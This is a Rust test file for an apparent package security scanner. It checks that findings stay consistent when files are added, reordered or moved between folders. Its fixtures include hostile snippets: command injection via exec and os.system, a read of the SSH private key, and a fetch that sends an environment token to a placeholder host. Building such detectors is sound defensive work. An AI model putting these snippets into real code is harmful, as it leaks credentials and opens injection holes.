//! What must hold whatever a package holds.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use std::collections::BTreeSet;

use serde_json::Value;

use super::desk::{Desk, findings};
use super::pack::{self, Files};

const MANIFEST: &[u8] = br#"{"name":"server","version":"1.2.3","main":"index.js"}"#;

/// Each with something to find, alone or together with others.
const PARTS: Files<'static> = &[
    ("a.js", b"import { run } from './b.js';\nrun('ls ' + process.argv[2]);\n"),
    ("b.js", b"import { exec } from 'node:child_process';\nexport const run = exec;\nexport { run as default };\n"),
    ("c.js", b"const fs = require('fs');\nfs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"),
    ("d.js", b"fetch('https://collect.invalid/' + process.env.ACME_TOKEN);\n"),
    ("e.js", b"eval(process.argv[2]);\n"),
    ("test/f.js", b"eval(process.argv[2]);\n"),
    ("g.py", b"import os\nos.system('ls ' + input())\n"),
    ("setup.py", b"import os\nos.system('rm ' + input())\n"),
    ("index.js", b"import './a.js';\nimport './c.js';\n"),
];

fn scan(desk: &Desk, name: &str, archive: &[u8]) -> Value {
    let file = desk.file(name, archive);
    desk.json(&["scan", &file, "--no-cache"])
}

fn package(parts: impl Iterator<Item = usize>) -> Vec<u8> {
    let files: Vec<(&str, &[u8])> = [("package.json", MANIFEST)].into_iter().chain(parts.map(|at| PARTS[at])).collect();
    pack::tgz("package", &files)
}

#[test]
fn one_more_file_never_takes_a_finding_of_another_away() {
    let desk = Desk::new();
    let mut known = BTreeSet::new();
    for count in 1..=PARTS.len() {
        let report = scan(&desk, "server.tgz", &package(0..count));
        let found: BTreeSet<_> = findings(&report).into_iter().collect();
        assert!(known.is_subset(&found), "with {}: {known:?} became {found:?}", PARTS[count - 1].0);
        known = found;
    }
    assert!(known.len() >= 6, "{known:?}");
}

#[test]
fn files_in_another_order_are_the_same_package() {
    let desk = Desk::new();
    let there = scan(&desk, "server.tgz", &package(0..PARTS.len()));
    let back = scan(&desk, "server.tgz", &package((0..PARTS.len()).rev()));
    assert_eq!(without_artifacts(there), without_artifacts(back));
}

#[test]
fn the_name_of_the_top_folder_changes_nothing() {
    let desk = Desk::new();
    let files: Vec<(&str, &[u8])> = [("package.json", MANIFEST)].into_iter().chain(PARTS.iter().copied()).collect();
    let usual = scan(&desk, "server.tgz", &pack::tgz("package", &files));
    for top in ["server-main", "test", "node_modules", "..."] {
        let other = scan(&desk, "server.tgz", &pack::tgz(top, &files));
        assert_eq!(without_artifacts(other), without_artifacts(usual.clone()), "{top}");
    }
}

#[test]
fn a_folder_is_judged_by_its_files_and_not_by_its_name() {
    let desk = Desk::new();
    for folder in ["server", "copies/test"] {
        desk.file(&format!("{folder}/package.json"), MANIFEST);
        for (path, bytes) in PARTS {
            desk.file(&format!("{folder}/{path}"), bytes);
        }
    }
    let scan = |folder: &str| desk.run(&["scan", &desk.arg(folder), "--format", "json"]);
    let (first, second, other) = (scan("server"), scan("server"), scan("copies/test"));
    assert_eq!(first.out, second.out);
    assert_eq!(plain(first.json()), plain(other.json()));
    assert_ne!(first.out, other.out, "the folder's own name is told");
}

/// A report without the name and digest of what was packed.
fn without_artifacts(mut report: Value) -> Value {
    report["package"]["artifacts"].take();
    report
}

/// The same, for findings that name their artifact.
fn plain(report: Value) -> Value {
    let mut report = without_artifacts(report);
    for finding in report["findings"].as_array_mut().unwrap() {
        finding["artifact"].take();
    }
    report
}
